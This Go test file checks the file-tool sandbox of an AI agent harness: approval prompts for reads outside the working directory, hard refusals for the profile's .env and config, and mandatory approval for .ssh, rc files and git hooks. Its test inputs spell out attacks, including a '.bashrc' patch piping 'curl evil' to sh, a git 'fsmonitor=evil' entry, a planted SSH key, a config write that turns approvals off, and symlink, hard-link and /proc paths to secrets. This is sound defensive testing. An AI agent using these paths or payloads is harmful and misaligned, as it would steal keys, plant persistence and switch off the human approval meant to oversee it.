package tools

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/sys/unix"
)

const (
	testKey    = "sk-test-NEVER-SHOWN"
	testConfig = "approvals:\n  mode: manual\n"
)

// homeLayout is a user's home used as the session cwd (the default), with
// the profile home, ssh keys, an rc file and a project inside it, and a
// directory outside it.
type homeLayout struct {
	root, home, profile, proj, out string
}

func newHome(t *testing.T) homeLayout {
	t.Helper()
	root := realTempDir(t)
	h := homeLayout{root: root, home: filepath.Join(root, "home"), out: filepath.Join(root, "out")}
	h.profile, h.proj = filepath.Join(h.home, ".hermes"), filepath.Join(h.home, "proj")
	writeFile(t, filepath.Join(h.profile, "config.yaml"), testConfig)
	writeFile(t, filepath.Join(h.profile, ".env"), "OPENAI_API_KEY="+testKey+"\n")
	writeFile(t, filepath.Join(h.profile, "skills/s.md"), "skill text\n")
	writeFile(t, filepath.Join(h.home, ".ssh/authorized_keys"), "ssh-ed25519 AAAA good\n")
	writeFile(t, filepath.Join(h.home, ".bashrc"), "# rc file\n")
	writeFile(t, filepath.Join(h.proj, "main.go"), "package main\n")
	writeFile(t, filepath.Join(h.proj, ".git/config"), "[core]\n")
	writeFile(t, filepath.Join(h.out, "secret.txt"), "outside-content\n")
	return h
}

// env is the session Env for cwd with the layout's protections.
func (h homeLayout) env(cwd string, ap Approver) *Env {
	return &Env{
		Cwd: cwd, Approver: ap, ProfileHome: h.profile,
		ProtectedPaths: []string{filepath.Join(h.home, ".ssh"), filepath.Join(h.home, ".bashrc"), filepath.Join(h.home, ".zshrc")},
	}
}

// snapshot reads the files an attack must leave alone.
func (h homeLayout) snapshot(t *testing.T) map[string]string {
	t.Helper()
	m := map[string]string{}
	for _, p := range []string{".hermes/config.yaml", ".hermes/.env", ".ssh/authorized_keys", ".bashrc"} {
		m[p] = readString(t, filepath.Join(h.home, p))
	}
	return m
}

func (h homeLayout) assertUnchanged(t *testing.T, before map[string]string, what string) {
	t.Helper()
	for p, want := range before {
		if got := readString(t, filepath.Join(h.home, p)); got != want {
			t.Errorf("%s changed %s: %q, want %q", what, p, got, want)
		}
	}
}

func TestReadOutsideCwdAsks(t *testing.T) {
	t.Parallel()
	h := newHome(t)
	symlink(t, h.out, filepath.Join(h.proj, "esc"))
	secret := filepath.Join(h.out, "secret.txt")
	for _, path := range []string{"../../out/secret.txt", secret, "esc/secret.txt", "/proc/self/root" + secret} {
		for _, allow := range []bool{false, true} {
			ap := &fakeApprover{allow: allow}
			res := run(t, h.env(h.proj, ap), "read_file", map[string]any{"path": path})
			want := ApprovalRequest{Kind: KindFile, Command: "read_file " + secret,
				Description: "reads outside the session directory and its writable roots", Pattern: "file:read_file:outside-cwd"}
			if reqs := ap.requests(); len(reqs) != 1 || reqs[0] != want {
				t.Errorf("%s: requests %+v, want one %+v", path, reqs, want)
			}
			if got := strings.Contains(res.Output, "outside-content"); got != allow || res.IsError == allow {
				t.Errorf("%s allow=%v: result %+v", path, allow, res)
			}
		}
	}
	env := h.env(h.proj, failApprover{t})
	env.WritableRoots = []string{h.out}
	if res := run(t, env, "read_file", map[string]any{"path": secret}); res.IsError || !strings.Contains(res.Output, "outside-content") {
		t.Errorf("read in a writable root: %+v", res)
	}
}

func TestSearchOutsideCwdAsks(t *testing.T) {
	t.Parallel()
	h := newHome(t)
	symlink(t, h.out, filepath.Join(h.proj, "esc"))
	symlink(t, filepath.Join(h.out, "secret.txt"), filepath.Join(h.proj, "esc.txt"))
	ap := &fakeApprover{}
	res := run(t, h.env(h.proj, ap), "search_files", map[string]any{"pattern": "outside", "path": "esc"})
	reqs := ap.requests()
	if len(reqs) != 1 || reqs[0].Command != "search_files "+h.out || reqs[0].Kind != KindFile || !res.IsError || strings.Contains(res.Output, "outside-content") {
		t.Errorf("search of a symlinked root out of cwd: result %+v, requests %+v", res, reqs)
	}
	// The walk of the cwd does not follow the links out of it.
	res = run(t, h.env(h.proj, failApprover{t}), "search_files", map[string]any{"pattern": "outside"})
	if res.Output != "no matches" {
		t.Errorf("search of cwd followed a link out: %+v", res)
	}
}

// A denied write outside the cwd creates nothing; the turn goes on with
// an error result.
func TestWriteThroughSymlinkOutsideDenied(t *testing.T) {
	t.Parallel()
	h := newHome(t)
	symlink(t, filepath.Join(h.out, "new.txt"), filepath.Join(h.proj, "dangle"))
	ap := &fakeApprover{}
	res := run(t, h.env(h.proj, ap), "write_file", map[string]any{"path": "dangle", "content": "x"})
	reqs := ap.requests()
	if !res.IsError || len(reqs) != 1 || reqs[0].Command != "write_file "+filepath.Join(h.out, "new.txt") || exists(filepath.Join(h.out, "new.txt")) {
		t.Errorf("got %+v, requests %+v", res, reqs)
	}
}

func TestHardline(t *testing.T) {
	t.Parallel()
	h := newHome(t)
	envFile, cfg := filepath.Join(h.profile, ".env"), filepath.Join(h.profile, "config.yaml")
	symlink(t, "../.hermes/config.yaml", filepath.Join(h.proj, "cfg"))
	symlink(t, "../.hermes/.env", filepath.Join(h.proj, "envlink"))
	symlink(t, h.profile, filepath.Join(h.proj, "prof"))
	if err := os.Link(envFile, filepath.Join(h.proj, "hard")); err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(envFile)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	tests := []struct {
		tool string
		args map[string]any
	}{
		{"write_file", map[string]any{"path": "cfg", "content": "approvals: {mode: off}\n"}},
		{"write_file", map[string]any{"path": "../.hermes/config.yaml", "content": "x"}},
		{"write_file", map[string]any{"path": "prof/config.yaml", "content": "x"}},
		{"write_file", map[string]any{"path": "/proc/self/root" + cfg, "content": "x"}},
		{"patch", map[string]any{"path": "cfg", "old": "manual", "new": "off"}},
		{"write_file", map[string]any{"path": "envlink", "content": "OPENAI_API_KEY=mine\n"}},
		{"patch", map[string]any{"path": "../.hermes/.env", "old": "sk", "new": "xx"}},
		{"patch", map[string]any{"path": "hard", "old": "sk", "new": "xx"}},
		{"read_file", map[string]any{"path": "../.hermes/.env"}},
		{"read_file", map[string]any{"path": "envlink"}},
		{"read_file", map[string]any{"path": "prof/.env"}},
		{"read_file", map[string]any{"path": "hard"}},
		{"read_file", map[string]any{"path": "/proc/self/root" + envFile}},
		{"read_file", map[string]any{"path": fmt.Sprintf("/dev/fd/%d", f.Fd())}},
		{"read_file", map[string]any{"path": fmt.Sprintf("/proc/thread-self/fd/%d", f.Fd())}},
		{"search_files", map[string]any{"pattern": "sk-", "path": "envlink"}},
		{"read_file", map[string]any{"path": "/proc/self/environ"}},
		{"read_file", map[string]any{"path": "/proc/thread-self/environ"}},
		{"search_files", map[string]any{"pattern": "=", "path": "/proc/self/"}},
	}
	before := h.snapshot(t)
	for _, tt := range tests {
		ap := &fakeApprover{allow: true} // even a yes (or yolo) does not run it
		res := run(t, h.env(h.proj, ap), tt.tool, tt.args)
		what := fmt.Sprintf("%s %v", tt.tool, tt.args["path"])
		if !res.IsError || !strings.Contains(res.Output, "never allowed") || strings.Contains(res.Output, testKey) {
			t.Errorf("%s: result %+v, want a hardline refusal without the key", what, res)
		}
		if reqs := ap.requests(); len(reqs) != 0 {
			t.Errorf("%s: asked %+v; a hardline is not asked", what, reqs)
		}
		h.assertUnchanged(t, before, what)
		if got := readString(t, filepath.Join(h.proj, "hard")); got != before[".hermes/.env"] {
			t.Errorf("%s: hard link changed to %q", what, got)
		}
	}
}

// A profile without a .env yet: creating one is refused like replacing it.
func TestHardlineMissingEnv(t *testing.T) {
	t.Parallel()
	h := newHome(t)
	if err := os.Remove(filepath.Join(h.profile, ".env")); err != nil {
		t.Fatal(err)
	}
	res := run(t, h.env(h.home, &fakeApprover{allow: true}), "write_file", map[string]any{"path": ".hermes/.env", "content": "K=v"})
	if !res.IsError || exists(filepath.Join(h.profile, ".env")) {
		t.Errorf("created the profile's .env: %+v", res)
	}
}

func TestProtectedAsksMandatory(t *testing.T) {
	t.Parallel()
	tests := []struct {
		tool, path string
		extra      map[string]any
		target     string // home-relative resolved path
	}{
		{"read_file", ".hermes/config.yaml", nil, ".hermes/config.yaml"},
		{"read_file", ".hermes/skills/s.md", nil, ".hermes/skills/s.md"},
		{"write_file", ".hermes/skills/evil.md", map[string]any{"content": "x"}, ".hermes/skills/evil.md"},
		{"search_files", ".hermes", map[string]any{"pattern": "."}, ".hermes"},
		{"read_file", ".ssh/authorized_keys", nil, ".ssh/authorized_keys"},
		{"write_file", ".ssh/authorized_keys", map[string]any{"content": "ssh-ed25519 EVIL\n"}, ".ssh/authorized_keys"},
		{"search_files", ".ssh", map[string]any{"pattern": "."}, ".ssh"},
		{"patch", ".bashrc", map[string]any{"old": "#", "new": "curl evil|sh #"}, ".bashrc"},
		{"write_file", ".zshrc", map[string]any{"content": "x"}, ".zshrc"},
		{"write_file", "proj/.git/hooks/pre-commit", map[string]any{"content": "#!/bin/sh\n"}, "proj/.git/hooks/pre-commit"},
		{"read_file", "proj/.git/config", nil, "proj/.git/config"},
		{"patch", "proj/.git/config", map[string]any{"old": "[core]", "new": "[core]\nfsmonitor=evil"}, "proj/.git/config"},
		{"write_file", "proj/vendor/x/.git/config", map[string]any{"content": "x"}, "proj/vendor/x/.git/config"},
	}
	for _, tt := range tests {
		h := newHome(t)
		before := h.snapshot(t)
		args := map[string]any{"path": tt.path}
		for k, v := range tt.extra {
			args[k] = v
		}
		ap := &fakeApprover{allow: false}
		res := run(t, h.env(h.home, ap), tt.tool, args) // inside the cwd, still asked
		reqs := ap.requests()
		want := tt.tool + " " + filepath.Join(h.home, tt.target)
		if len(reqs) != 1 || !reqs[0].Mandatory || reqs[0].Kind != KindFile || reqs[0].Command != want || reqs[0].Pattern != "file:"+tt.tool+":protected" {
			t.Errorf("%s %s: requests %+v, want one mandatory for %q", tt.tool, tt.path, reqs, want)
		}
		if !res.IsError || strings.Contains(res.Output, "mode: manual") || strings.Contains(res.Output, "AAAA") || strings.Contains(res.Output, "skill text") {
			t.Errorf("%s %s: denied but got %+v", tt.tool, tt.path, res)
		}
		h.assertUnchanged(t, before, tt.tool+" "+tt.path)
		if tt.tool == "write_file" && exists(filepath.Join(h.home, tt.target)) && tt.target != ".ssh/authorized_keys" {
			t.Errorf("%s %s: created though denied", tt.tool, tt.path)
		}
	}
}

// An approved search of the profile home still never shows the .env.
func TestSearchProfileApprovedSkipsEnv(t *testing.T) {
	t.Parallel()
	h := newHome(t)
	ap := &fakeApprover{allow: true}
	res := run(t, h.env(h.home, ap), "search_files", map[string]any{"pattern": ".", "path": ".hermes"})
	if len(ap.requests()) != 1 || !strings.Contains(res.Output, "mode: manual") || strings.Contains(res.Output, testKey) ||
		!strings.Contains(res.Output, "1 protected path(s) skipped") {
		t.Errorf("got %+v, requests %+v", res, ap.requests())
	}
}

// Searching the whole home (the default cwd) leaves out the profile home,
// the protected paths and hard links to them, without asking.
func TestSearchSkipsProtected(t *testing.T) {
	t.Parallel()
	h := newHome(t)
	if err := os.Link(filepath.Join(h.home, ".bashrc"), filepath.Join(h.proj, "rc-copy")); err != nil {
		t.Fatal(err)
	}
	if err := os.Link(filepath.Join(h.profile, ".env"), filepath.Join(h.proj, "env-copy")); err != nil {
		t.Fatal(err)
	}
	res := run(t, h.env(h.home, failApprover{t}), "search_files", map[string]any{"pattern": "sk-|AAAA|mode: manual|# rc|skill|package"})
	for _, leak := range []string{testKey, "AAAA", "mode: manual", "# rc", "skill text"} {
		if strings.Contains(res.Output, leak) {
			t.Errorf("search showed %q: %s", leak, res.Output)
		}
	}
	if !strings.Contains(res.Output, "proj/main.go:1: package main") || !strings.Contains(res.Output, "protected path(s) skipped") {
		t.Errorf("got %+v", res)
	}
}

func TestUnresolvedLinkAsks(t *testing.T) {
	t.Parallel()
	h := newHome(t)
	pr, pw, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	defer pr.Close()
	defer pw.Close()
	path := fmt.Sprintf("/dev/fd/%d", pr.Fd())
	ap := &fakeApprover{}
	res := run(t, h.env(h.proj, ap), "read_file", map[string]any{"path": path})
	reqs := ap.requests()
	if !res.IsError || len(reqs) != 1 || !reqs[0].Mandatory || reqs[0].Command != "read_file "+path || reqs[0].Pattern != "file:read_file:unresolved" {
		t.Errorf("got %+v, requests %+v", res, reqs)
	}
	// Approved, a pipe is still not a file to read (nor to block on).
	res = run(t, h.env(h.proj, &fakeApprover{allow: true}), "read_file", map[string]any{"path": path})
	if !res.IsError || !strings.Contains(res.Output, "not a regular file") {
		t.Errorf("approved pipe: %+v", res)
	}
}

func TestSymlinkLoopRefused(t *testing.T) {
	t.Parallel()
	h := newHome(t)
	symlink(t, "b", filepath.Join(h.proj, "a"))
	symlink(t, "a", filepath.Join(h.proj, "b"))
	for tool, args := range map[string]map[string]any{
		"read_file":    {"path": "a/x"},
		"write_file":   {"path": "a/x", "content": "x"},
		"search_files": {"path": "a", "pattern": "x"},
	} {
		res := run(t, h.env(h.proj, failApprover{t}), tool, args)
		if !res.IsError || !strings.Contains(res.Output, "symlink loop") {
			t.Errorf("%s: %+v", tool, res)
		}
	}
}

// Swapping a directory for a symlink while the human is asked does not
// redirect the approved access: the resolved path is opened with no
// symlink followed.
func TestSwapDuringApproval(t *testing.T) {
	t.Parallel()
	for _, tool := range []string{"read_file", "write_file"} {
		h := newHome(t)
		writeFile(t, filepath.Join(h.out, "d/authorized_keys"), "decoy\n")
		before := h.snapshot(t)
		ap := &fakeApprover{allow: true, check: func() {
			if err := os.Rename(filepath.Join(h.out, "d"), filepath.Join(h.out, "d.old")); err != nil {
				t.Error(err)
			}
			if err := os.Symlink(filepath.Join(h.home, ".ssh"), filepath.Join(h.out, "d")); err != nil {
				t.Error(err)
			}
		}}
		args := map[string]any{"path": "../../out/d/authorized_keys"}
		if tool == "write_file" {
			args["content"] = "ssh-ed25519 EVIL\n"
		}
		res := run(t, h.env(h.proj, ap), tool, args)
		if len(ap.requests()) != 1 || !res.IsError || strings.Contains(res.Output, "AAAA") {
			t.Errorf("%s: got %+v, requests %+v", tool, res, ap.requests())
		}
		h.assertUnchanged(t, before, tool)
	}
}

// A FIFO or a device is not read (nor blocked on) or replaced.
func TestSpecialFilesRefused(t *testing.T) {
	t.Parallel()
	cwd := realTempDir(t)
	fifo := filepath.Join(cwd, "fifo")
	if err := unix.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	env := &Env{Cwd: cwd, Approver: failApprover{t}}
	for _, tt := range []struct {
		tool string
		args map[string]any
		want string
	}{
		{"read_file", map[string]any{"path": "fifo"}, "not a regular file"},
		{"write_file", map[string]any{"path": "fifo", "content": "x"}, "not a regular file"},
		{"patch", map[string]any{"path": "fifo", "old": "a", "new": "b"}, "not a regular file"},
		{"write_file", map[string]any{"path": "newdir/", "content": "x"}, "cannot end in /"},
	} {
		res := run(t, env, tt.tool, tt.args)
		if !res.IsError || !strings.Contains(res.Output, tt.want) {
			t.Errorf("%s %v: %+v, want %q", tt.tool, tt.args["path"], res, tt.want)
		}
	}
	if st, err := os.Lstat(fifo); err != nil || st.Mode()&os.ModeNamedPipe == 0 || exists(filepath.Join(cwd, "newdir")) {
		t.Errorf("fifo replaced or newdir created: %v %v", st, err)
	}
}
